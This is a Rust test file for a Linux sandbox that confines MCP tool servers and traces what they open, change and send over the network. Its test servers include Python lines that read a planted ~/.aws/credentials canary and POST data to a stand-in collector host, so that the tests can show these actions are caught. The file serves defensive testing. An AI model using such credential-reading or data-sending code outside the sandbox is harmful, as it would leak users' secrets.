//! Servers in worlds of their own: what they find there, what stays of what they do, and what is seen of it.
#![cfg(target_os = "linux")]

mod common;

use std::ffi::OsString;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde_json::json;
use wallfacer_core::catalogue::discover;
use wallfacer_core::plan::Step;
use wallfacer_core::run::{Life, Patience, Taken};
use wallfacer_core::target::{
    Command, Confine, Endpoint, EndpointKind, Net, Protocol, Reach, Required, Target, Timeouts, Version,
};
use wallfacer_core::wire::{ConnectError, Connector, HeaderParams, Outcome};
use wallfacer_core::world::{Lack, Traced};
use wallfacer_fixtures::Transport;
use wallfacer_process::Rung;
use wallfacer_process::jail::{Effect, Plant};
use wallfacer_process::trace::Kind;

const PATIENCE: Duration = Duration::from_secs(60);

/// A server in Python with one tool, whose body is given; `arguments` are those of the call.
const SERVER: &str = r#"
import json, os, sys

def tool(arguments):
BODY

for line in sys.stdin:
    asked = json.loads(line)
    if "id" not in asked:
        continue
    if asked["method"] == "initialize":
        told = {"protocolVersion": "2025-11-25", "capabilities": {"tools": {}}, "serverInfo": {"name": "small", "version": "1"}}
    elif asked["method"] == "tools/call":
        text = str(tool(asked["params"]["arguments"]))
        told = {"content": [{"type": "text", "text": text}]}
    elif asked["method"] == "ping":
        told = {}
    else:
        print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], "error": {"code": -32601, "message": "no"}}), flush=True)
        continue
    print(json.dumps({"jsonrpc": "2.0", "id": asked["id"], "result": told}), flush=True)
"#;

/// A home, a working directory and a server between them.
struct Place {
    kept: tempfile::TempDir,
}

impl Place {
    fn new() -> Self {
        let kept = tempfile::tempdir().unwrap();
        for name in ["home", "work"] {
            std::fs::create_dir(kept.path().join(name)).unwrap();
        }
        Self { kept }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.kept.path().canonicalize().unwrap().join(name)
    }

    /// A server whose one tool does this.
    fn server(&self, body: &str) -> Connector {
        let indented: Vec<String> = body.lines().map(|line| format!("    {line}")).collect();
        let file = self.path("work/server.py");
        std::fs::write(&file, SERVER.replace("BODY", &indented.join("\n"))).unwrap();
        self.connector(Reach::Command(Command {
            cwd: Some(self.path("work")),
            ..Command::new("python3", [file])
        }))
    }

    /// Confined and watched, or not at all.
    fn connector(&self, reach: Reach) -> Connector {
        let mut target = Target::new(reach);
        target.timeouts.startup = PATIENCE;
        target.timeouts.probe = PATIENCE;
        target.sandbox.confine = Confine::Require;
        target.sandbox.required = Required { observe: true, confine: true };
        self.of(target)
    }

    fn of(&self, target: Target) -> Connector {
        let mut environment = common::environment();
        environment.insert(OsString::from("HOME"), self.path("home").into());
        Connector::new(target, environment)
    }
}

async fn start(connector: &mut Connector) -> Life {
    Life::start(connector, &HeaderParams::new()).await.unwrap_or_else(|error| panic!("{error}"))
}

async fn call(life: &mut Life, arguments: serde_json::Value) -> Taken {
    let params = json!({ "name": "tool", "arguments": arguments });
    let step = Step::Call { method: "tools/call".to_owned(), params: params.as_object().unwrap().clone() };
    let patience = Patience::new(Timeouts { call: PATIENCE, ..Timeouts::default() });
    life.take(&step, &patience).await
}

fn said(taken: &Taken) -> String {
    match &taken.outcome {
        Some(Outcome::Reply(incoming)) => String::from_utf8_lossy(&incoming.bytes).into_owned(),
        other => panic!("{other:?}"),
    }
}

/// The files that were opened for this step's call.
fn opened(traced: &Traced) -> Vec<PathBuf> {
    let own = traced.events.iter().filter(|event| event.call == traced.call);
    let path = |kind: &Kind| match kind {
        Kind::Open { location, .. } => Some(location.path()),
        _ => None,
    };
    own.filter_map(|event| path(&event.kind)).collect()
}

#[test]
fn correct_servers_work_in_the_sandbox_over_every_transport() {
    for transport in [Transport::Stdio, Transport::Http, Transport::LegacySse] {
        common::wait_for(async {
            let place = Place::new();
            let mut connector = place.connector(common::fixture("correct", transport));
            for _ in 0..2 {
                let mut life = start(&mut connector).await;
                let standing = life.connection.standing();
                assert!(standing.is_harmless() && standing.observed.calls, "{standing:?}");
                let catalogue = discover(&mut life.connection, &life.server, &Timeouts::default()).await;
                assert!(!catalogue.tools.entries.is_empty(), "{transport:?}");
                life.connection.close(PATIENCE).await;
            }
        });
    }
}

#[test]
fn what_a_server_writes_into_its_home_stays_in_its_world() {
    let place = Place::new();
    let mut connector = place.server(
        "open(os.path.expanduser('~/mark'), 'w').write('x')\nreturn os.listdir(os.path.expanduser('~'))",
    );
    common::wait_for(async {
        let mut life = start(&mut connector).await;
        let first = call(&mut life, json!({})).await;
        assert!(said(&first).contains(".ssh") && said(&first).contains("mark"), "{}", said(&first));
        let traced = first.traced.unwrap();
        let mark = place.path("home/mark");
        assert!(opened(&traced).contains(&mark), "{traced:?}");
        let change = traced.changes.iter().find(|change| change.path == mark).expect("the change is seen");
        assert_eq!(change.effect, Effect::Created);
        let second = call(&mut life, json!({})).await.traced.unwrap();
        assert!(second.changes.is_empty(), "what is as before is no news: {:?}", second.changes);
        assert!(opened(&second).contains(&mark), "but the call is seen");
        life.connection.close(PATIENCE).await;
        let again = call(&mut start(&mut connector).await, json!({})).await;
        assert_eq!(again.traced.unwrap().changes.len(), 1, "the next life begins anew");
    });
    let left: Vec<_> = std::fs::read_dir(place.path("home")).unwrap().collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn a_canary_is_read_by_the_call_that_reads_it_and_by_no_other() {
    let place = Place::new();
    let mut connector = place.server(
        "if arguments.get('read'):\n    return open(os.path.expanduser('~/.aws/credentials')).read()",
    );
    common::wait_for(async {
        let mut life = start(&mut connector).await;
        let canaries = connector.world().canaries(life.connection.standing());
        let canary = canaries.iter().find(|canary| canary.path.ends_with(".aws/credentials")).unwrap();
        let startup = life.startup.take().unwrap();
        assert!(startup.events.iter().all(|event| event.call.is_none()), "nothing was asked yet");
        assert!(!startup.events.is_empty());
        for read in [false, true, false] {
            let taken = call(&mut life, json!({ "read": read })).await;
            let traced = taken.traced.as_ref().unwrap();
            assert_eq!(opened(traced).contains(&canary.path), read);
            assert_eq!(canary.tokens.iter().all(|token| said(&taken).contains(token)), read);
        }
    });
}

#[test]
fn what_is_sent_out_is_seen_by_name_and_content_and_goes_nowhere() {
    let place = Place::new();
    let mut connector = place.server(
        "import urllib.request\nreturn urllib.request.urlopen('https://collector.example.com/in', data=b'the-news').status",
    );
    common::wait_for(async {
        let mut life = start(&mut connector).await;
        let taken = call(&mut life, json!({})).await;
        assert!(said(&taken).contains("200"), "{}", said(&taken));
        let traced = taken.traced.unwrap();
        let sent = traced.flows.iter().find(|flow| flow.http.is_some()).expect("a request");
        assert_eq!((sent.name.as_deref(), sent.call), (Some("collector.example.com"), traced.call));
        assert!(String::from_utf8_lossy(&sent.sent.first).contains("the-news"));
    });
}

#[test]
fn a_call_that_waits_for_the_network_says_so_whether_watched_or_not() {
    for watched in [true, false] {
        let place = Place::new();
        let mut connector = place.server(
            "import socket\nline = socket.create_connection(('203.0.113.9', 80))\nline.sendall(b'hello?')\nreturn line.recv(1)",
        );
        connector.world_mut().watch = watched;
        common::wait_for(async {
            let mut target = connector.target().clone();
            target.sandbox.required.observe = watched;
            let mut connector = place.of(target);
            let mut life = start(&mut connector).await;
            let params = json!({ "name": "tool", "arguments": {} });
            let step =
                Step::Call { method: "tools/call".to_owned(), params: params.as_object().unwrap().clone() };
            let patience =
                Patience::new(Timeouts { call: Duration::from_millis(2_500), ..Timeouts::default() });
            let taken = life.take(&step, &patience).await;
            assert!(taken.is_fatal());
            assert!(taken.traced.as_ref().unwrap().waits_for_network(), "{taken:?}");
        });
    }
}

#[test]
fn a_network_that_is_denied_has_no_names_and_no_sink() {
    let place = Place::new();
    let connector = place.server(
        "import socket\ntry:\n    return socket.create_connection(('example.com', 80), 20)\nexcept OSError as error:\n    return 'refused: %s' % error",
    );
    let mut target = connector.target().clone();
    target.sandbox.net = Net::Deny;
    let mut connector = place.of(target);
    common::wait_for(async {
        let mut life = start(&mut connector).await;
        assert!(!life.connection.standing().observed.network);
        let taken = call(&mut life, json!({})).await;
        assert!(said(&taken).contains("refused"), "{}", said(&taken));
    });
}

#[test]
fn what_must_be_had_and_cannot_is_told_before_anything_is_started() {
    let place = Place::new();
    let mark = place.path("work/started");
    let command = Command::new("sh", ["-c", &format!("touch {}", mark.display())]);
    for best in [Rung::OtherHome, Rung::Unconfined] {
        let mut connector = place.connector(Reach::Command(command.clone()));
        connector.world_mut().best = best;
        let refused = common::wait_for(connector.open());
        assert!(matches!(refused, Err(ConnectError::Unmet { .. })), "{best:?}");
    }
    let mut connector = place.connector(Reach::Command(Command::new("docker", ["run", "-i", "image"])));
    assert!(matches!(common::wait_for(connector.open()), Err(ConnectError::Unmet { .. })));
    assert!(!mark.exists());
}

#[test]
fn what_a_launcher_needs_is_fetched_before_and_the_server_finds_it_and_cannot_change_it() {
    let place = Place::new();
    for name in ["bin", "home/.npm"] {
        std::fs::create_dir(place.path(name)).unwrap();
    }
    let npx = place.path("bin/npx");
    let server = wallfacer_fixtures::server();
    let script = format!(
        "#!/bin/sh\ncase \"$*\" in\n*'--package=pkg@1 -c :') mkdir -p \"$npm_config_cache\" ~/.npm\n\
         echo once >> \"$npm_config_cache/pkg\"; touch ~/.npm/pkg;;\n\
         '-y pkg@1') test \"$npm_config_offline\" && echo twice >> \"$npm_config_cache/pkg\" && exec {} correct;;\n\
         esac\n",
        server.display()
    );
    std::fs::write(&npx, script).unwrap();
    std::fs::set_permissions(&npx, std::fs::Permissions::from_mode(0o755)).unwrap();
    let open = |version: &str| {
        let mut connector = place.connector(Reach::Command(Command::new(&npx, ["-y", version])));
        common::wait_for(async {
            let (connection, _) = connector.open().await.unwrap_or_else(|error| panic!("{error}"));
            assert!(connection.standing().remarks.is_empty(), "{:?}", connection.standing());
        });
    };
    // The second time it was just now, and is not fetched again.
    for _ in 0..2 {
        open("pkg@1");
        let stores = std::fs::read_dir(place.path("home/.cache/wallfacer/fetched")).unwrap();
        let stores: Vec<_> = stores.map(|store| store.unwrap().path().join("cache/npm/pkg")).collect();
        let fetched = stores.iter().map(|file| std::fs::read_to_string(file).unwrap());
        assert_eq!(fetched.collect::<Vec<_>>(), ["once\n"]);
    }
    assert!(!place.path("home/.npm/pkg").exists(), "the user's own cache is not written");
}

/// What a server that is a shell script lacks in the sandbox, where it does not start.
fn lacks(place: &Place, script: &str, change: impl FnOnce(&mut Target)) -> Vec<Lack> {
    let mut target = Target::new(Reach::Command(Command::new("sh", ["-c", script])));
    target.sandbox.confine = Confine::Auto;
    target.timeouts.startup = PATIENCE;
    change(&mut target);
    match common::wait_for(place.of(target).open()) {
        Err(ConnectError::NotInSandbox { sought, .. }) if sought.watched => sought.lacks,
        other => panic!("{:?}", other.map(|(_, server)| server)),
    }
}

#[test]
fn a_server_that_does_not_start_in_the_sandbox_is_not_run_without() {
    let place = Place::new();
    let mark = place.path("work/outside");
    let script = format!("test -e ~/.netrc && exit 7; touch {}", mark.display());
    for (confine, chooses) in [(Confine::Auto, true), (Confine::Require, false)] {
        let mut target = Target::new(Reach::Command(Command::new("sh", ["-c", &script])));
        target.sandbox.confine = confine;
        let error = common::wait_for(place.of(target).open()).unwrap_err();
        assert!(matches!(error.failure(), ConnectError::Exited { .. }), "{error}");
        assert!(
            matches!(error, ConnectError::NotInSandbox { may_do_without, .. } if may_do_without == chooses)
        );
        assert!(!mark.exists());
    }
}

/// Runs a test of this file again, on a machine that is made to lack something. True in there.
fn again_without(lack: &str, test: &str) -> bool {
    const INSIDE: &str = "WALLFACER_TEST_INSIDE";
    if common::environment().contains_key(std::ffi::OsStr::new(INSIDE)) {
        return true;
    }
    let mut command = std::process::Command::new(wallfacer_fixtures::lacks());
    command.arg(lack).arg(std::env::current_exe().unwrap()).args(["--exact", test]).env(INSIDE, "1");
    let done = command.output().unwrap();
    let said = String::from_utf8_lossy(&done.stdout);
    assert!(done.status.success() && said.contains("1 passed"), "{said}");
    false
}

#[test]
fn a_server_for_which_no_sandbox_can_be_made_is_not_started_where_others_have_one() {
    const THIS: &str = "a_server_for_which_no_sandbox_can_be_made_is_not_started_where_others_have_one";
    if !again_without("landlock", THIS) {
        return;
    }
    let place = Place::new();
    let mark = place.path("work/outside");
    let script = format!("touch {}", mark.display());
    let mut target = Target::new(Reach::Command(Command::new("sh", ["-c", &script])));
    target.sandbox.confine = Confine::Auto;
    let mut connector = place.of(target);
    // No file can have this name, so that no rung with namespaces can be made ready.
    connector.world_mut().plants.insert("/tmp/a\0b".into(), Plant::Directory);
    let error = common::wait_for(connector.open()).unwrap_err();
    assert!(error.to_string().contains("cannot confine"), "{error}");
    assert!(!mark.exists());
}

#[test]
fn a_server_that_fails_once_is_started_again_in_the_sandbox() {
    const BAD_MOMENT: Duration = Duration::from_secs(2);
    let place = Place::new();
    // Whoever is started before this moment waits for it and leaves: the first life, and no later one.
    let moment = SystemTime::now().duration_since(UNIX_EPOCH).unwrap() + BAD_MOMENT;
    let script = format!(
        "test $(date +%s%3N) -lt {0} && while test $(date +%s%3N) -lt {0}; do sleep 0.05; done && exit 1; exec {1} correct",
        moment.as_millis(),
        wallfacer_fixtures::server().display()
    );
    let mut target = Target::new(Reach::Command(Command::new("sh", ["-c", &script])));
    target.sandbox.confine = Confine::Auto;
    target.protocol = Protocol::Fixed(Version::LATEST_LEGACY);
    target.timeouts.startup = PATIENCE;
    let (connection, _) = common::wait_for(place.of(target).open()).unwrap_or_else(|error| panic!("{error}"));
    assert!(connection.standing().is_confined(), "{:?}", connection.standing());
}

#[test]
fn a_server_that_is_broken_is_told_as_it_is_without_the_sandbox() {
    let place = Place::new();
    let mut target = Target::new(Reach::Command(Command::new("sh", ["-c", "echo no >&2; exit 3"])));
    target.sandbox.confine = Confine::Auto;
    let error = common::wait_for(place.of(target).open()).unwrap_err();
    assert!(error.to_string().contains("code 3"), "{error}");
}

#[test]
fn a_silent_server_costs_its_start_up_limit_once() {
    const LIMIT: Duration = Duration::from_secs(6);
    const BEYOND: Duration = Duration::from_secs(5);
    let place = Place::new();
    let listener = Endpoint {
        url: "http://127.0.0.1:4711/mcp".to_owned(),
        headers: Vec::new(),
        kind: EndpointKind::Auto,
    };
    let command = Command::new("sleep", ["600"]);
    for reach in [Reach::Command(command.clone()), Reach::Both { command, endpoint: listener }] {
        let mut target = Target::new(reach);
        target.sandbox.confine = Confine::Auto;
        target.timeouts.startup = LIMIT;
        let begun = Instant::now();
        let error = common::wait_for(place.of(target).open()).unwrap_err();
        assert!(
            matches!(error.failure(), ConnectError::Silent { .. } | ConnectError::Deaf { .. }),
            "{error}"
        );
        assert!(begun.elapsed() < LIMIT + BEYOND, "{:?}", begun.elapsed());
    }
}

#[test]
fn what_is_hidden_and_looked_for_is_named_the_last_first() {
    let place = Place::new();
    std::fs::create_dir_all(place.path("home/.config/app")).unwrap();
    for name in ["home/.apprc", "home/.config/app/settings.json"] {
        std::fs::write(place.path(name), "{}").unwrap();
    }
    let script =
        "cat ~/.apprc; cat ~/.nowhere; test -d ~/.config/app; test -e ~/.config/app/settings.json || exit 1";
    let [first, last] = ["home/.apprc", "home/.config/app/settings.json"].map(|name| place.path(name));
    assert_eq!(lacks(&place, script, |_| ()), [Lack::Hidden(last), Lack::Hidden(first)]);
}

#[test]
fn a_host_that_is_out_of_reach_is_named_with_its_port() {
    let place = Place::new();
    let script =
        "exec python3 -c \"import socket; socket.create_connection(('db.example.com', 5432)); exit(1)\"";
    let host = |lack: &Lack| matches!(lack, Lack::Host { host, port: 5432 } if host == "db.example.com");
    let sunk = lacks(&place, script, |_| ());
    assert!(sunk.iter().any(host), "{sunk:?}");
    let script = "exec python3 -c \"import socket; socket.create_connection(('192.0.2.7', 5432))\"";
    let denied = lacks(&place, script, |target| target.sandbox.net = Net::Deny);
    assert!(denied.contains(&Lack::Host { host: "192.0.2.7".to_owned(), port: 5432 }), "{denied:?}");
}

#[test]
fn a_program_that_is_nowhere_and_a_call_that_is_refused_are_named() {
    let place = Place::new();
    let missing = lacks(&place, "no-such-program --help; exit 1", |_| ());
    assert_eq!(missing, [Lack::Program("no-such-program".to_owned())]);
    let refused = lacks(&place, "mount -t tmpfs none /mnt; exit 1", |_| ());
    assert!(refused.iter().any(|lack| matches!(lack, Lack::Call(_))), "{refused:?}");
}
